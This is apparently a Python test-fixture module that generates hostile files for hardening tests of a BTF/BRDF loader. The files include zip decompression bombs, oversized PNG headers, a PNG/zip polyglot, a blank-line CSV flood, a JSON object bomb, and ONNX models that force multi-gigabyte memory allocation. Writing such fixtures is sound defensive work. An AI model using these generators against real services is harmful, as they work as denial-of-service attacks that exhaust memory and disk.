"""Hostile files, small on the wire and costly to check or run: each one a finding of the
hardening attacks, built here (never downloaded) for the tests and for
``benchmarks/bench_attack.py``.

Zip archives are written member by member through a streaming deflater, so that a member
that inflates to gigabytes never exists in memory here either.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

ANGLES_HEADER = "file,theta_i,phi_i,theta_o,phi_o\n"
_CHUNK = 1 << 24


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(h: int = 8, w: int = 8, value: int = 128) -> bytes:
    """A valid 8-bit RGB PNG of one grey ``value``, written by hand."""
    raw = (b"\0" + bytes([value]) * (3 * w)) * h
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
        + _chunk(b"IDAT", zlib.compress(raw, 9))
        + _chunk(b"IEND", b"")
    )


def ihdr_png(h: int, w: int) -> bytes:
    """A PNG whose IHDR claims ``w`` x ``h`` pixels, with one tiny IDAT: a few hundred
    bytes that a decoder without a pixel cap would try to allocate."""
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
        + _chunk(b"IDAT", zlib.compress(b"\0" * 64, 9))
        + _chunk(b"IEND", b"")
    )


def _write_member(
    zf: zipfile.ZipFile, name: str, head: bytes, fill: bytes, count: int, tail: bytes
) -> None:
    """Member ``name``: ``head``, ``count`` copies of the byte ``fill``, ``tail``, deflated
    as it is written."""
    info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with zf.open(info, "w", force_zip64=True) as fh:
        fh.write(head)
        block = fill * min(_CHUNK, max(count, 1))
        left = count
        while left > 0:
            fh.write(block[: min(left, len(block))])
            left -= len(block)
        fh.write(tail)


def _deflating(buf: io.BytesIO) -> zipfile.ZipFile:
    return zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9)


def slices_zip(n: int = 1, image: bytes | None = None) -> bytes:
    """A valid ``.btf.zip`` of ``n`` identical 8x8 PNG slices, each with its own light."""
    img = png() if image is None else image
    buf = io.BytesIO()
    with _deflating(buf) as zf:
        rows = [f"s{i}.png,{1 + i % 88},{(i // 88) % 360},10,0" for i in range(n)]
        zf.writestr("angles.csv", ANGLES_HEADER + "\n".join(rows) + "\n")
        for i in range(n):
            zf.writestr(f"s{i}.png", img)
    return buf.getvalue()


def inflating_slice_zip(inflated_bytes: int) -> bytes:
    """A ``.btf.zip`` whose one slice is a valid 8x8 PNG followed by ``inflated_bytes`` of
    zeros: its header is all a checker reads, but the member is inflated to disk whole
    (deflate's ratio is about 1000, so 1.5 GB arrives as about 1.5 MB)."""
    buf = io.BytesIO()
    with _deflating(buf) as zf:
        zf.writestr("angles.csv", ANGLES_HEADER + "s0.png,10,0,10,0\n")
        _write_member(zf, "s0.png", png(), b"\0", inflated_bytes, b"")
    return buf.getvalue()


def blank_lines_zip(lines: int) -> bytes:
    """A ``.btf.zip`` whose ``angles.csv`` is its header, ``lines`` blank lines and one
    slice: about 20 KB for 20 million lines, each a Python object once parsed."""
    buf = io.BytesIO()
    with _deflating(buf) as zf:
        _write_member(zf, "angles.csv", ANGLES_HEADER.encode(), b"\n", lines, b"s0.png,10,0,10,0\n")
        zf.writestr("s0.png", png())
    return buf.getvalue()


def ihdr_bomb_zip(h: int = 100_000, w: int = 100_000) -> bytes:
    """A ``.btf.zip`` whose one slice's IHDR claims ``w`` x ``h`` pixels."""
    return slices_zip(1, ihdr_png(h, w))


def npz_with_text_member() -> bytes:
    """An ``.npz`` with one array and one member that is not a ``.npy``."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        arr = io.BytesIO()
        np.lib.format.write_array(arr, np.ones(4, np.float32))
        zf.writestr("x.npy", arr.getvalue())
        zf.writestr("notes.txt", b"not an array")
    return buf.getvalue()


def png_with_zip_appended() -> bytes:
    """A valid 8x8 PNG with a valid ``.btf.zip`` appended: a PNG to a PNG reader, and an
    archive to a zip reader (which finds the directory from the end)."""
    return png() + slices_zip(1)


def non_mlp_json(size: int) -> bytes:
    """A JSON document of about ``size`` bytes that claims no known format: ``{"format":
    "other", "x": [[], [], ...]}`` (each ``[]`` a Python list once parsed)."""
    n = max(1, (size - 32) // 3)
    return b'{"format":"other","x":[' + b"[]," * (n - 1) + b"[]]}"


# -- ONNX models ---------------------------------------------------------------------------
def _brdf_io() -> tuple[list[onnx.ValueInfoProto], onnx.ValueInfoProto]:
    inputs = [helper.make_tensor_value_info(n, TensorProto.FLOAT, ["N", 3]) for n in ("wi", "wo")]
    return inputs, helper.make_tensor_value_info("rgb", TensorProto.FLOAT, ["N", 3])


def constant_folding_bomb(k: int) -> onnx.ModelProto:
    """A BRDF model with initialisers ``[K, 1]`` and ``[1, K]``: their ``Add`` is a
    ``[K, K]`` constant (``4 K^2`` bytes: 1 GiB at K = 16384, 16 GiB at K = 65536) that
    onnxruntime folds when the session starts, then ``ReduceSum`` to a scalar times
    ``wi``. The file is ``8 K`` bytes."""
    col = numpy_helper.from_array(np.full((k, 1), 1e-9, np.float32), "col")
    row = numpy_helper.from_array(np.full((1, k), 1e-9, np.float32), "row")
    nodes = [
        helper.make_node("Add", ["col", "row"], ["square"]),
        helper.make_node("ReduceSum", ["square"], ["total"], keepdims=0),
        helper.make_node("Mul", ["wi", "total"], ["rgb"]),
    ]
    inputs, out = _brdf_io()
    graph = helper.make_graph(nodes, "constant_folding_bomb", inputs, [out], [col, row])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])


def runtime_quadratic() -> onnx.ModelProto:
    """A BRDF model whose run builds an ``[N, N]`` tensor from its batch: ``Slice(wi)`` to
    ``[N, 1]``, ``Transpose`` to ``[1, N]``, ``Add`` to ``[N, N]``, ``ReduceMean`` over one
    axis back to ``[N, 1]``, ``Add`` of a ``[1, 3]`` zero to ``[N, 3]``. Every op is an
    ordinary one; a batch of 65,536 rows asks for 16 GiB. (The attack ended with
    ``Expand``, which the ONNX check now refuses unless its shape comes from a ``Shape``
    node; the ``Add`` broadcasts the same way.)"""
    inits = [
        numpy_helper.from_array(np.array([0], np.int64), "s0"),
        numpy_helper.from_array(np.array([1], np.int64), "s1"),
        numpy_helper.from_array(np.array([1], np.int64), "axis"),
        numpy_helper.from_array(np.zeros((1, 3), np.float32), "zero3"),
    ]
    nodes = [
        helper.make_node("Slice", ["wi", "s0", "s1", "axis"], ["col"]),
        helper.make_node("Transpose", ["col"], ["row"], perm=[1, 0]),
        helper.make_node("Add", ["col", "row"], ["square"]),
        helper.make_node("ReduceMean", ["square"], ["mean"], axes=[1], keepdims=1),
        helper.make_node("Add", ["mean", "zero3"], ["rgb"]),
    ]
    inputs, out = _brdf_io()
    graph = helper.make_graph(nodes, "runtime_quadratic", inputs, [out], inits)
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
